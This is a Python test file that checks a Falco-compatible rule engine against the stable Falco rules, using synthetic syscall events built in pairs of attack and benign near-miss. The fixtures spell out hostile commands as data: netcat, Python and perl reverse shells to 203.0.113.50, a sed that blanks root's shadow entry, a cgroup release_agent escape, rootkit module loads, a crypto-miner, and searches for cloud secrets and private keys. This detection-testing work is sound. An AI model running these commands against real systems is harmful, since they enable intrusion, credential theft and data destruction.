"""End-to-end fidelity of the 25 stable Falco rules (falcosecurity/rules ``falco_rules.yaml``).

Every rule gets a realistic positive event, built in the documented event schema
(docs/events.md) the way libsinsp would see the syscall, and a near-miss: the same action
in an allowed or benign form. The rule file is loaded unmodified. Expectations follow
Falco's semantics (falco-language.md §3.9 missing values, §3.12 outputs, §3.14 ordering):

* with ``rule_matching: all`` the exact list of rules that fire, in definition order;
* with ``rule_matching: first`` (Falco's default) only the earliest of them fires.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from falconet.event import Event
from falconet.rules.engine import Engine, EngineConfig
from tests.helpers import TS

STABLE = "falco/falcosecurity-rules/rules/falco_rules.yaml"

# -- engines, built once per module ------------------------------------------------------------


def _load(corpus: Path, matching: str) -> Engine:
    e = Engine(EngineConfig(rule_matching=matching))
    res = e.load([corpus / STABLE])
    assert res.ok, "\n".join(m.format() for m in res.messages)
    return e


@pytest.fixture(scope="module")
def all_engine(corpus: Path) -> Engine:
    return _load(corpus, "all")


@pytest.fixture(scope="module")
def first_engine(corpus: Path) -> Engine:
    return _load(corpus, "first")


# -- event builders ----------------------------------------------------------------------------

CID = "3ad7b26ded6d"
FULL_CID = "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e"
# Docker's default capability set (0xa80425fb: CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID
# SETUID SETPCAP NET_BIND_SERVICE NET_RAW SYS_CHROOT MKNOD AUDIT_WRITE SETFCAP): no
# SYS_ADMIN, no SYS_MODULE.
DOCKER_CAPS = 0xA80425FB
# Every capability up to CAP_CHECKPOINT_RESTORE (40): a privileged container / host root.
ALL_CAPS = (1 << 41) - 1
POD_START = TS - 3_600_000_000_000  # the pod's pid namespace started an hour earlier

ROOT = {"uid": 0, "name": "root", "homedir": "/root", "shell": "/bin/bash", "loginuid": -1}
WWW_DATA = {"uid": 33, "name": "www-data", "homedir": "/var/www", "shell": "/usr/sbin/nologin",
            "loginuid": -1}  # fmt: skip

_nums = itertools.count(1000)


def proc(name: str, *args: str, exe: str | None = None, exepath: str | None = None,
         pid: int = 98300, **kw: Any) -> dict[str, Any]:  # fmt: skip
    """A process object (``proc`` or an ``ancestors`` entry)."""
    p: dict[str, Any] = {
        "pid": pid, "tid": pid, "name": name, "exe": exe or name,
        "exepath": exepath or f"/usr/bin/{name}", "args": list(args), "cwd": "/", "tty": 0,
        "start_ts": TS - 2_000_000_000, "cap_effective": DOCKER_CAPS,
        "cap_permitted": DOCKER_CAPS, "cap_inheritable": 0,
    }  # fmt: skip
    p.update(kw)
    return p


# `kubectl exec -it` lands below runc, itself below the containerd shim.
RUNC = proc("runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
            "/tmp/runc-process2041", "--detach", CID, pid=98100, start_ts=TS - 10_000_000,
            cap_effective=ALL_CAPS)  # fmt: skip
SHIM = proc("containerd-shim", "-namespace", "k8s.io", "-id", "9c1d0e4c7b2a", pid=97000,
            exe="/usr/bin/containerd-shim-runc-v2", exepath="/usr/bin/containerd-shim-runc-v2",
            start_ts=POD_START, cap_effective=ALL_CAPS)  # fmt: skip
SYSTEMD = proc("systemd", "--system", "--deserialize", "31", pid=1, exe="/sbin/init",
               exepath="/usr/lib/systemd/systemd", start_ts=TS - 86_400_000_000_000,
               cap_effective=ALL_CAPS)  # fmt: skip
EXEC_CHAIN = [RUNC, SHIM, SYSTEMD]
# an interactive shell started by `kubectl exec -it web -- bash`
CONTAINER_BASH = proc("bash", pid=98213, tty=34816, sid=98213, start_ts=TS - 60_000_000_000)
SHELL_CHAIN = [CONTAINER_BASH, *EXEC_CHAIN]
# nginx running as the container's entrypoint, below the shim
NGINX = proc("nginx", "-g", "daemon off;", pid=98022, exepath="/usr/sbin/nginx",
             start_ts=POD_START)  # fmt: skip
NGINX_CHAIN = [NGINX, SHIM, SYSTEMD]
# an ssh login on the host: sshd (session) <- sshd (listener) <- systemd
SSHD_SESSION = proc("sshd", "admin@pts/1", pid=4100, exe="sshd: admin@pts/1",
                    exepath="/usr/sbin/sshd", cap_effective=ALL_CAPS)  # fmt: skip
SSHD = proc("sshd", "-D", pid=900, exe="/usr/sbin/sshd", exepath="/usr/sbin/sshd",
            cap_effective=ALL_CAPS)  # fmt: skip
HOST_BASH = proc("bash", pid=4200, tty=34817, cap_effective=ALL_CAPS)
HOST_SHELL_CHAIN = [HOST_BASH, SSHD_SESSION, SSHD, SYSTEMD]


def container_enrichment(*, privileged: bool = False, repo: str = "docker.io/library/nginx",
                         tag: str = "1.25.3", ns: str | None = "shop",
                         pod: str = "web-7d9f8b6c5-x2x9q") -> dict[str, Any]:  # fmt: skip
    labels = {"io.kubernetes.container.name": "nginx"}
    enrichment: dict[str, Any] = {
        "container": {
            "id": CID, "full_id": FULL_CID, "name": "web", "type": "containerd",
            "image": {"name": f"{repo}:{tag}", "repository": repo, "tag": tag},
            "privileged": privileged, "mounts": [], "labels": labels,
        },
    }  # fmt: skip
    if ns is not None:
        labels.update({"io.kubernetes.pod.name": pod, "io.kubernetes.pod.namespace": ns})
        enrichment["k8s"] = {"pod": {"name": pod, "labels": {"app": "web"}}, "ns": {"name": ns}}
    return enrichment


def sc(etype: str, args: dict[str, Any], p: dict[str, Any], ancestors: list[dict[str, Any]],
       *, fd: dict[str, Any] | None = None, user: dict[str, Any] = ROOT,
       container: str = CID, enrichment: dict[str, Any] | None = None, res: int | None = 0,
       rawargs: dict[str, Any] | None = None) -> Event:  # fmt: skip
    """One completed syscall. Container processes get the default enrichment (nginx pod)."""
    payload: dict[str, Any] = {"args": args}
    if rawargs:
        payload["rawargs"] = rawargs
    if res is not None:
        payload["res"] = res
    group = {"gid": user["uid"]}
    if "name" in user:  # the primary group shares the user's name here
        group["name"] = user["name"]
    payload.update({"proc": p, "ancestors": ancestors, "user": user, "group": group})
    if fd is not None:
        payload["fd"] = fd
    payload["container"] = {"id": container}
    if enrichment is None:
        enrichment = {} if container == "host" else container_enrichment()
    num = next(_nums)
    return Event("syscall", etype, TS, "node-a", f"node-a-{TS}-{num}", payload, enrichment, {}, num)


def execve(p: dict[str, Any], ancestors: list[dict[str, Any]], *, flags: str = "EXE_LOWER_LAYER",
           **kw: Any) -> Event:  # fmt: skip
    """execve as libsinsp reports it after the exec: the new image is the event's process."""
    parent = ancestors[0] if ancestors else {"pid": 0}
    args = {
        "res": 0, "exe": p["exe"], "args": " ".join(p["args"]), "tid": p["pid"], "pid": p["pid"],
        "ptid": parent["pid"], "cwd": p["cwd"], "comm": p["name"], "tty": p["tty"],
        "flags": flags, "trusted_exepath": p["exepath"], "filename": p["exepath"],
    }  # fmt: skip
    return sc("execve", args, p, ancestors, **kw)


def openat(p: dict[str, Any], ancestors: list[dict[str, Any]], path: str, flags: str, *,
           fdnum: int = 3, nameraw: str | None = None, **kw: Any) -> Event:  # fmt: skip
    """openat(AT_FDCWD, path, flags) that returned ``fdnum``; a negative ``fdnum`` is an errno."""
    args = {"fd": fdnum, "dirfd": -100, "name": path, "flags": flags,
            "mode": "0644" if "O_CREAT" in flags else "0", "dev": "FD01", "ino": 1315432}  # fmt: skip
    if fdnum >= 0:
        fd = {"num": fdnum, "type": "file", "name": path, "nameraw": nameraw or path}
        return sc("openat", args, p, ancestors, fd=fd, res=fdnum, **kw)
    # a failed open: the fd is not in the table (no type); fd.name comes from the path argument
    raw = {"name": nameraw} if nameraw else None
    return sc("openat", args, p, ancestors, fd={"num": -1}, res=fdnum, rawargs=raw, **kw)


def tcp_client(cip: str, cport: int, sip: str, sport: int, *, fdnum: int = 5,
               connected: bool = True, **extra: Any) -> dict[str, Any]:  # fmt: skip
    return {"num": fdnum, "type": "ipv4", "name": f"{cip}:{cport}->{sip}:{sport}", "l4proto": "tcp",
            "role": "client", "cip": cip, "cport": cport, "sip": sip, "sport": sport,
            "connected": connected, **extra}  # fmt: skip


def connect(p: dict[str, Any], ancestors: list[dict[str, Any]], fd: dict[str, Any], *,
            res: int = 0, **kw: Any) -> Event:  # fmt: skip
    args = {"res": res, "tuple": fd["name"], "fd": fd["num"], "addr": f"{fd['sip']}:{fd['sport']}"}
    return sc("connect", args, p, ancestors, fd=fd, res=res, **kw)


# -- the events --------------------------------------------------------------------------------
# Each factory returns one event; CASES maps it to the rules expected with `all`.


def traversal_read_etc_passwd() -> Event:
    # CVE-style path traversal in a PHP app: include('/var/www/html/../../../etc/passwd')
    fpm = proc("php-fpm8.2", exe="php-fpm: pool www", exepath="/usr/sbin/php-fpm8.2",
               pid=98400, start_ts=POD_START)  # fmt: skip
    master = proc("php-fpm8.2", exe="php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
                  exepath="/usr/sbin/php-fpm8.2", pid=98020, start_ts=POD_START)  # fmt: skip
    raw = "/var/www/html/../../../etc/passwd"
    return openat(fpm, [master, SHIM, SYSTEMD], "/etc/passwd", "O_RDONLY", fdnum=7, nameraw=raw,
                  user=WWW_DATA)


def traversal_failed_open_id_rsa() -> Event:
    # the traversal probe for a key that is not there: openat fails with ENOENT (fd.num=-1)
    fpm = proc("php-fpm8.2", exe="php-fpm: pool www", exepath="/usr/sbin/php-fpm8.2",
               pid=98400, start_ts=POD_START)  # fmt: skip
    master = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98020, start_ts=POD_START)
    raw = "/var/www/html/../../../root/.ssh/id_rsa"
    return openat(fpm, [master, SHIM, SYSTEMD], "/root/.ssh/id_rsa", "O_RDONLY", fdnum=-2,
                  nameraw=raw, user=WWW_DATA)


def absolute_read_etc_passwd() -> Event:
    fpm = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98400, start_ts=POD_START)
    master = proc("php-fpm8.2", exepath="/usr/sbin/php-fpm8.2", pid=98020, start_ts=POD_START)
    return openat(fpm, [master, SHIM, SYSTEMD], "/etc/passwd", "O_RDONLY", fdnum=7, user=WWW_DATA)


def shell_traversal_read() -> Event:
    # `cat ../../etc/passwd` typed in a shell: the parent is a shell, excluded by the rule
    cat = proc("cat", "../../etc/passwd", cwd="/var/www/", tty=34816)
    return openat(cat, SHELL_CHAIN, "/etc/passwd", "O_RDONLY", nameraw="/var/www/../../etc/passwd")


def nginx_reads_shadow_after_startup() -> Event:
    # an nginx worker, up for an hour, reads /etc/shadow (e.g. through a vulnerable module)
    worker = proc("nginx", exe="nginx: worker process", exepath="/usr/sbin/nginx", pid=98030,
                  start_ts=POD_START)  # fmt: skip
    return openat(worker, NGINX_CHAIN, "/etc/shadow", "O_RDONLY|O_CLOEXEC", fdnum=9)


def nginx_reads_shadow_at_startup() -> Event:
    # the same read two seconds after the worker started: proc_is_new, trusted at startup
    worker = proc("nginx", exe="nginx: worker process", exepath="/usr/sbin/nginx", pid=98030,
                  start_ts=TS - 2_000_000_000)  # fmt: skip
    return openat(worker, NGINX_CHAIN, "/etc/shadow", "O_RDONLY|O_CLOEXEC", fdnum=9)


def sshd_reads_shadow() -> Event:
    # sshd checking a password, long after it started (host)
    sshd = proc("sshd", "-D", pid=900, exe="/usr/sbin/sshd", exepath="/usr/sbin/sshd",
                start_ts=TS - 86_000_000_000_000, cap_effective=ALL_CAPS)  # fmt: skip
    return openat(sshd, [SYSTEMD], "/etc/shadow", "O_RDONLY|O_CLOEXEC", container="host")


def cat_shadow_in_container() -> Event:
    cat = proc("cat", "/etc/shadow", pid=98310, cwd="/root/", tty=34816)
    return openat(cat, SHELL_CHAIN, "/etc/shadow", "O_RDONLY|O_CLOEXEC")


def cat_sudoers_d_in_container() -> Event:
    # sensitive_files also covers every file below /etc/sudoers.d (fd.directory)
    cat = proc("cat", "/etc/sudoers.d/90-cloud-init-users", pid=98310, tty=34816)
    return openat(cat, SHELL_CHAIN, "/etc/sudoers.d/90-cloud-init-users", "O_RDONLY")


def apt_reads_shadow() -> Event:
    # a package manager maintainer step reads /etc/shadow: proc.name in package_mgmt_binaries
    dpkg = proc("dpkg", "--configure", "-a", pid=5000, exepath="/usr/bin/dpkg",
                cap_effective=ALL_CAPS)  # fmt: skip
    apt = proc("apt-get", "upgrade", "-y", pid=4990, cap_effective=ALL_CAPS)
    return openat(dpkg, [apt, HOST_BASH, SSHD_SESSION, SSHD, SYSTEMD], "/etc/shadow", "O_RDONLY",
                  container="host")


def placeholder_reads_shadow() -> Event:
    # libsinsp's placeholder thread (comm "<NA>"): proc_name_exists is false
    ghost = proc("<NA>", pid=98320, exe="", exepath="")
    return openat(ghost, SHELL_CHAIN, "/etc/shadow", "O_RDONLY")


def write_shadow_in_container() -> Event:
    # writing (not reading) /etc/shadow is not a read rule's business
    sed = proc("sed", "-i", "s/^root:[^:]*:/root::/", "/etc/shadow", pid=98311, tty=34816)
    return openat(sed, SHELL_CHAIN, "/etc/shadow", "O_WRONLY|O_CREAT|O_TRUNC", fdnum=4)


def nginx_spawns_sh() -> Event:
    # remote code execution through the web server: nginx -> sh -c id (no tty)
    sh = proc("sh", "-c", "id; uname -a", pid=98500, exe="/bin/sh", exepath="/usr/bin/dash")
    worker = proc("nginx", exe="nginx: worker process", exepath="/usr/sbin/nginx", pid=98030,
                  start_ts=POD_START)  # fmt: skip
    return execve(sh, [worker, *NGINX_CHAIN], user=WWW_DATA)


def nginx_spawns_known_cmdline() -> Event:
    # `sh -c uname -s 2>&1` is in known_shell_spawn_cmdlines
    sh = proc("sh", "-c", "uname -s 2>&1", pid=98501, exe="/bin/sh", exepath="/usr/bin/dash")
    return execve(sh, NGINX_CHAIN, user=WWW_DATA)


def nginx_spawns_node_require_nan() -> Event:
    # the list item '"sh -c node -e \"require(''nan'')\""' is unescaped by the parser to
    # sh -c node -e "require('nan')"
    sh = proc("sh", "-c", "node -e \"require('nan')\"", pid=98502, exe="/bin/sh",
              exepath="/usr/bin/dash")  # fmt: skip
    return execve(sh, NGINX_CHAIN, user=WWW_DATA)


def shell_spawns_shell() -> Event:
    # bash -> sh below nginx: the direct parent is a shell, excluded
    sh = proc("sh", "-c", "id", pid=98503, exe="/bin/sh", exepath="/usr/bin/dash")
    bash = proc("bash", "-c", "sh -c id", pid=98502)
    return execve(sh, [bash, *NGINX_CHAIN], user=WWW_DATA)


def www_data_ssh_session() -> Event:
    # a system user logged in over ssh runs a command on the host
    ls = proc("ls", "-la", "/var/www", pid=4300, tty=34817)
    bash = proc("bash", pid=4200, tty=34817)
    return execve(ls, [bash, SSHD_SESSION, SSHD, SYSTEMD], user=WWW_DATA, container="host")


def root_ssh_session() -> Event:
    ls = proc("ls", "-la", "/root", pid=4300, tty=34817, cap_effective=ALL_CAPS)
    return execve(ls, HOST_SHELL_CHAIN, container="host")


def kubectl_exec_bash(parent: dict[str, Any] | None = RUNC) -> Event:
    bash = proc("bash", pid=98213, tty=34816)
    ancestors = [parent, SHIM, SYSTEMD] if parent is not None else []
    return execve(bash, ancestors, flags="EXE_WRITABLE|EXE_LOWER_LAYER")


def kubectl_exec_bash_no_tty() -> Event:
    # `kubectl exec web -- bash -c ...` without -t: no controlling terminal
    bash = proc("bash", "-c", "cat /proc/1/status", pid=98213, tty=0)
    return execve(bash, EXEC_CHAIN)


def nested_shell_with_tty() -> Event:
    # `sh` typed inside the exec'd bash: the parent is bash, not a container entrypoint
    sh = proc("sh", pid=98214, exe="sh", exepath="/usr/bin/dash", tty=34816)
    return execve(sh, SHELL_CHAIN)


def curl_k8s_api(**kw: Any) -> Event:
    curl = proc("curl", "-sk", "https://kubernetes.default.svc/api", pid=98300, tty=34816)
    fd = tcp_client("10.244.1.7", 41234, "10.96.0.1", 443, connected=False,
                    sip_name="kubernetes.default.svc.cluster.local")  # fmt: skip
    return connect(curl, SHELL_CHAIN, fd, res=-115, **kw)  # EINPROGRESS (non-blocking)


def curl_k8s_api_from_host() -> Event:
    curl = proc("curl", "-sk", "https://10.96.0.1/api", pid=4400, tty=34817)
    fd = tcp_client("10.0.1.15", 52000, "10.96.0.1", 443, connected=False,
                    sip_name="kubernetes.default.svc.cluster.local")  # fmt: skip
    return connect(curl, HOST_SHELL_CHAIN, fd, res=-115, container="host")


def nc_reverse_shell(container: str = CID) -> Event:
    nc = proc("nc", "-e", "/bin/sh", "203.0.113.50", "4444", pid=98600, exe="nc",
              exepath="/usr/bin/nc.traditional", tty=34816)  # fmt: skip
    chain = SHELL_CHAIN if container != "host" else HOST_SHELL_CHAIN
    return execve(nc, chain, container=container)


def nc_port_scan() -> Event:
    nc = proc("nc", "-zv", "postgres", "5432", pid=98601, exepath="/usr/bin/nc.openbsd", tty=34816)
    return execve(nc, SHELL_CHAIN)


def ncat_exec() -> Event:
    ncat = proc("ncat", "--exec", "/bin/bash", "203.0.113.50", "443", pid=98602, tty=34816)
    return execve(ncat, SHELL_CHAIN)


def find_id_rsa() -> Event:
    find = proc("find", "/", "-name", "id_rsa", pid=98700, tty=34816)
    return execve(find, SHELL_CHAIN)


def grep_private_key() -> Event:
    grep = proc("grep", "-rl", "BEGIN RSA PRIVATE KEY", "/home", pid=98701, tty=34817,
                cap_effective=ALL_CAPS)  # fmt: skip
    return execve(grep, HOST_SHELL_CHAIN, container="host")


def find_logs() -> Event:
    find = proc("find", "/var/log", "-name", "*.gz", "-mtime", "+30", pid=98702, tty=34816)
    return execve(find, SHELL_CHAIN)


def grep_password() -> Event:
    # " pass "/" user " searches count only through the grep_more hook (never_true)
    grep = proc("grep", "-ri", "pass", "/etc/app", pid=98703, tty=34816)
    return execve(grep, SHELL_CHAIN)


def truncate_auth_log() -> Event:
    # `> /var/log/auth.log` from an interactive root shell on the host
    return openat(HOST_BASH, HOST_SHELL_CHAIN[1:], "/var/log/auth.log",
                  "O_WRONLY|O_CREAT|O_TRUNC", fdnum=3, container="host")


def append_auth_log() -> Event:
    rsyslogd = proc("rsyslogd", "-n", "-iNONE", pid=700, exepath="/usr/sbin/rsyslogd",
                    cap_effective=ALL_CAPS)  # fmt: skip
    return openat(rsyslogd, [SYSTEMD], "/var/log/auth.log", "O_WRONLY|O_APPEND|O_CREAT|O_CLOEXEC",
                  fdnum=7, container="host")


def truncate_nginx_access_log() -> Event:
    # access_log_files matches the directory exactly: /var/log/nginx is not /var/log, and
    # access.log is not in log_files (access_log is)
    return openat(CONTAINER_BASH, EXEC_CHAIN, "/var/log/nginx/access.log",
                  "O_WRONLY|O_CREAT|O_TRUNC", fdnum=3)


def shred_db() -> Event:
    shred = proc("shred", "-u", "-z", "-n", "3", "/data/customers.db", pid=98800, tty=34816)
    return execve(shred, SHELL_CHAIN)


def rm_rf_data() -> Event:
    # bulk removal with rm is not in data_remove_commands (shred, mkfs, mke2fs)
    rm = proc("rm", "-rf", "--no-preserve-root", "/data", pid=98801, tty=34816)
    return execve(rm, SHELL_CHAIN)


def mkfs_ext4() -> Event:
    # the comm of mkfs.ext4 is "mkfs.ext4", not "mkfs": not in data_remove_commands
    mkfs = proc("mkfs.ext4", "-F", "/dev/xvdf", pid=4500, exepath="/usr/sbin/mke2fs", tty=34817,
                cap_effective=ALL_CAPS)  # fmt: skip
    return execve(mkfs, HOST_SHELL_CHAIN, container="host")


def ln(*argv: str) -> dict[str, Any]:
    return proc("ln", *argv, pid=98900, cwd="/tmp/", tty=34816)


def symlinkat_shadow() -> Event:
    args = {"res": 0, "target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/.s"}
    return sc("symlinkat", args, ln("-s", "/etc/shadow", ".s"), SHELL_CHAIN,
              rawargs={"linkpath": ".s"})


def symlink_root_dir() -> Event:
    # the root directory is in sensitive_directory_names ("/")
    args = {"res": 0, "target": "/", "linkpath": "/tmp/rootfs"}
    return sc("symlink", args, ln("-s", "/", "/tmp/rootfs"), SHELL_CHAIN)


def symlink_hosts() -> Event:
    args = {"res": 0, "target": "/etc/hosts", "linkdirfd": -100, "linkpath": "/tmp/hosts"}
    return sc("symlinkat", args, ln("-s", "/etc/hosts", "/tmp/hosts"), SHELL_CHAIN)


def linkat_shadow() -> Event:
    args = {"res": 0, "olddir": -100, "oldpath": "/etc/shadow", "newdir": -100,
            "newpath": "/tmp/.sh", "flags": 0}  # fmt: skip
    return sc("linkat", args, ln("/etc/shadow", "/tmp/.sh"), SHELL_CHAIN)


def link_passwd() -> Event:
    args = {"res": 0, "oldpath": "/etc/passwd", "newpath": "/tmp/p"}
    return sc("link", args, ln("/etc/passwd", "/tmp/p"), SHELL_CHAIN)


def packet_socket(domain: str = "AF_PACKET", container: str = CID) -> Event:
    # scapy / tcpdump opening a raw packet socket (ARP spoofing)
    py = proc("python3", "arpspoof.py", "-t", "10.244.1.1", pid=99000,
              exepath="/usr/bin/python3.11", tty=34816)  # fmt: skip
    args = {"fd": 3, "domain": domain, "type": 3, "proto": 768}
    chain = SHELL_CHAIN if container != "host" else HOST_SHELL_CHAIN
    return sc("socket", args, py, chain, res=3, container=container)


def dup2_socket_stdin(newfd: int = 0) -> Event:
    # python reverse shell: os.dup2(s.fileno(), 0) with s connected to 203.0.113.50:4444
    py = proc("python3", "-c", "import socket,os,pty;s=socket.socket();"
              "s.connect(('203.0.113.50',4444));os.dup2(s.fileno(),0)", pid=99100,
              exepath="/usr/bin/python3.11", tty=34816)  # fmt: skip
    fd = tcp_client("10.244.1.7", 45512, "203.0.113.50", 4444, fdnum=3)
    args = {"res": newfd, "oldfd": 3, "newfd": newfd}
    return sc("dup2", args, py, SHELL_CHAIN, fd=fd, res=newfd)


def dup2_pipe_stdout() -> Event:
    # a shell pipeline: dup2(pipe, 1)
    sh = proc("sh", "-c", "ps aux | grep nginx", pid=99101, exepath="/usr/bin/dash", tty=34816)
    fd = {"num": 4, "type": "pipe", "name": "pipe:[4412831]"}
    return sc("dup2", {"res": 1, "oldfd": 4, "newfd": 1}, sh, SHELL_CHAIN, fd=fd, res=1)


def init_module(container: str = CID, caps: int = ALL_CAPS, res: int = 0) -> Event:
    insmod = proc("insmod", "/tmp/rootkit.ko", pid=99200, exepath="/usr/bin/kmod", tty=34816,
                  cap_effective=caps, cap_permitted=caps)  # fmt: skip
    args = {"res": res, "img": "ELF..............", "length": 16384, "uargs": ""}
    chain = SHELL_CHAIN if container != "host" else HOST_SHELL_CHAIN
    enrichment = container_enrichment(privileged=caps == ALL_CAPS) if container != "host" else {}
    return sc("init_module", args, insmod, chain, container=container, enrichment=enrichment,
              res=res)


def debugfs(privileged: bool) -> Event:
    dbg = proc("debugfs", "-w", "/dev/nvme0n1p1", pid=99300, exepath="/usr/sbin/debugfs",
               tty=34816, cap_effective=ALL_CAPS if privileged else DOCKER_CAPS)  # fmt: skip
    return execve(dbg, SHELL_CHAIN, enrichment=container_enrichment(privileged=privileged))


def release_agent_write(caps: int) -> Event:
    # the classic cgroup v1 escape: echo /cmd > /tmp/cgrp/release_agent
    sh = proc("sh", "-c", "echo /tmp/x/cmd > /tmp/cgrp/release_agent", pid=99400,
              exepath="/usr/bin/dash", tty=34816, cap_effective=caps, cap_permitted=caps)  # fmt: skip
    return openat(sh, SHELL_CHAIN, "/tmp/cgrp/release_agent", "O_WRONLY|O_CREAT|O_TRUNC",
                  fdnum=3, enrichment=container_enrichment(privileged=caps == ALL_CAPS))


def ptrace(request: str, name: str = "gdb") -> Event:
    gdb = proc(name, "-p", "98022", pid=99500, tty=34816)
    args = {"res": 0, "addr": "0", "data": "0", "request": request, "pid": "nginx"}
    return sc("ptrace", args, gdb, SHELL_CHAIN, rawargs={"pid": 98022})


def grep_aws_secret() -> Event:
    grep = proc("grep", "-ri", "AWS_SECRET_ACCESS_KEY", "/home", "/root", pid=99600, tty=34816)
    return execve(grep, SHELL_CHAIN)


def find_aws_credentials() -> Event:
    find = proc("find", "/", "-path", "*/.aws/credentials", pid=99601, tty=34816)
    return execve(find, SHELL_CHAIN)


def grep_aws_region() -> Event:
    grep = proc("grep", "-r", "aws_region", "/etc/app", pid=99602, tty=34816)
    return execve(grep, SHELL_CHAIN)


def exec_from_dev_shm(repo: str = "docker.io/library/nginx") -> Event:
    miner = proc("kworkerds", pid=99700, exe="/dev/shm/kworkerds", exepath="/dev/shm/kworkerds",
                 cwd="/dev/shm/", tty=0)  # fmt: skip
    return execve(miner, [CONTAINER_BASH, *EXEC_CHAIN], enrichment=container_enrichment(repo=repo),
                  flags="EXE_WRITABLE")


def exec_relative_in_dev_shm() -> Event:
    # cd /dev/shm && ./x (libsinsp keeps the cwd with a trailing slash)
    x = proc("x", pid=99701, exe="./x", exepath="/dev/shm/x", cwd="/dev/shm/", tty=34816)
    return execve(x, SHELL_CHAIN, flags="EXE_WRITABLE")


def sh_runs_dev_shm_script() -> Event:
    sh = proc("sh", "/dev/shm/stage2.sh", pid=99702, exepath="/usr/bin/dash", tty=34816)
    return execve(sh, SHELL_CHAIN)


def exec_from_app_dir() -> Event:
    run = proc("run.sh", pid=99703, exe="./run.sh", exepath="/opt/app/run.sh", cwd="/opt/app/",
               tty=34816)  # fmt: skip
    return execve(run, SHELL_CHAIN)


def drop_and_exec(upper: bool, container: str = CID) -> Event:
    xmrig = proc("xmrig", "-o", "pool.minexmr.com:4444", pid=99800, exe="/tmp/xmrig",
                 exepath="/tmp/xmrig", cwd="/tmp/", tty=34816, is_exe_upper_layer=upper,
                 is_exe_writable=True, exe_ino=2883601, exe_ino_ctime=TS - 5_000_000_000,
                 exe_ino_mtime=TS - 5_000_000_000, pidns_init_start_ts=POD_START,
                 sid=98213)  # fmt: skip
    flags = "EXE_WRITABLE|EXE_UPPER_LAYER" if upper else "EXE_WRITABLE|EXE_LOWER_LAYER"
    chain = SHELL_CHAIN if container != "host" else HOST_SHELL_CHAIN
    return execve(xmrig, chain, flags=flags, container=container)


def ssh_connect(sip: str, sport: int, *, container: str = "host") -> Event:
    ssh = proc("ssh", "-p", str(sport), f"git@{sip}", pid=4600, tty=34817)
    fd = tcp_client("192.168.1.10", 50522, sip, sport, fdnum=3)
    return connect(ssh, HOST_SHELL_CHAIN, fd, container=container)


def memfd_exec() -> Event:
    # fexecve(memfd_create("payload")): comm is the fd number
    p = proc("3", pid=99900, exe="/proc/self/fd/3", exepath="/memfd:payload (deleted)",
             tty=34816, is_exe_from_memfd=True, exe_ino=0)  # fmt: skip
    return execve(p, SHELL_CHAIN, flags="EXE_FROM_MEMFD")


def runc_memfd_reexec() -> Event:
    # runc re-executes itself from a sealed memfd (CVE-2019-5736 mitigation)
    p = proc("runc", "init", pid=99901, exe="/proc/self/exe",
             exepath="memfd:runc_cloned:/proc/self/exe", is_exe_from_memfd=True,
             cap_effective=ALL_CAPS)  # fmt: skip
    return execve(p, [RUNC, SHIM, SYSTEMD], flags="EXE_FROM_MEMFD", container="host")


def nginx_reads_shadow_start_unknown() -> Event:
    # libsinsp knows no clone time for the worker: proc.duration is missing, so
    # `proc.duration <= 5000000000` is false and `not proc_is_new` is true
    worker = proc("nginx", exe="nginx: worker process", exepath="/usr/sbin/nginx", pid=98030)
    del worker["start_ts"]
    return openat(worker, NGINX_CHAIN, "/etc/shadow", "O_RDONLY|O_CLOEXEC", fdnum=9)


def ssh_connect_v6(sip: str, sport: int) -> Event:
    # IPv6 connection: `fd.ip != "0.0.0.0"` and `fd.net != "127.0.0.0/8"` compare an IPv6
    # address with IPv4 values (size mismatch: `!=` is true, `in` is false in libsinsp)
    ssh = proc("ssh", "-6", "-p", str(sport), f"git@{sip}", pid=4601, tty=34817)
    fd = {"num": 3, "type": "ipv6", "name": f"2001:db8:1::10:50522->{sip}:{sport}",
          "l4proto": "tcp", "role": "client", "cip": "2001:db8:1::10", "cport": 50522,
          "sip": sip, "sport": sport, "connected": True}  # fmt: skip
    return connect(ssh, HOST_SHELL_CHAIN, fd, container="host")


def ssh_connect_nonblocking(res: int) -> Event:
    # ssh with ConnectTimeout: a non-blocking connect, EINPROGRESS (-115) or ECONNREFUSED (-111)
    ssh = proc("ssh", "-o", "ConnectTimeout=5", "-p", "8443", "tunnel@198.51.100.20", pid=4602,
               tty=34817)  # fmt: skip
    fd = tcp_client("192.168.1.10", 50530, "198.51.100.20", 8443, fdnum=3, connected=False)
    return connect(ssh, HOST_SHELL_CHAIN, fd, res=res, container="host")


def nc_c() -> Event:
    nc = proc("nc", "-c", "sh -i", "203.0.113.50", "9001", pid=98603, tty=0)
    return execve(nc, NGINX_CHAIN)


def dup3_socket_stdout() -> Event:
    perl = proc("perl", "-e", "use Socket;...;open(STDOUT,\">&S\")", pid=99102, tty=0)
    fd = tcp_client("10.244.1.7", 45600, "203.0.113.50", 443, fdnum=4)
    return sc("dup3", {"res": 1, "oldfd": 4, "newfd": 1, "flags": 0}, perl, NGINX_CHAIN, fd=fd,
              res=1)


def finit_module() -> Event:
    # modprobe/insmod on a recent kernel: finit_module(fd of the .ko file)
    insmod = proc("insmod", "/lib/modules/diamorphine.ko", pid=99201, exepath="/usr/bin/kmod",
                  tty=34816, cap_effective=ALL_CAPS)  # fmt: skip
    fd = {"num": 3, "type": "file", "name": "/lib/modules/diamorphine.ko"}
    args = {"res": 0, "fd": 3, "uargs": "", "flags": 0}
    return sc("finit_module", args, insmod, SHELL_CHAIN, fd=fd,
              enrichment=container_enrichment(privileged=True))


def memfd_execveat() -> Event:
    # fexecve(): execveat(memfd, "", argv, envp, AT_EMPTY_PATH)
    p = proc("4", pid=99902, exe="/dev/fd/4", exepath="/memfd:x (deleted)", tty=0,
             is_exe_from_memfd=True, exe_ino=0)  # fmt: skip
    args = {"res": 0, "exe": "/dev/fd/4", "args": "", "tid": 99902, "pid": 99902,
            "ptid": 98022, "cwd": "/", "comm": "4", "tty": 0, "flags": "EXE_FROM_MEMFD",
            "trusted_exepath": "/memfd:x (deleted)"}  # fmt: skip
    return sc("execveat", args, p, NGINX_CHAIN)


def symlink_relative_shadow() -> Event:
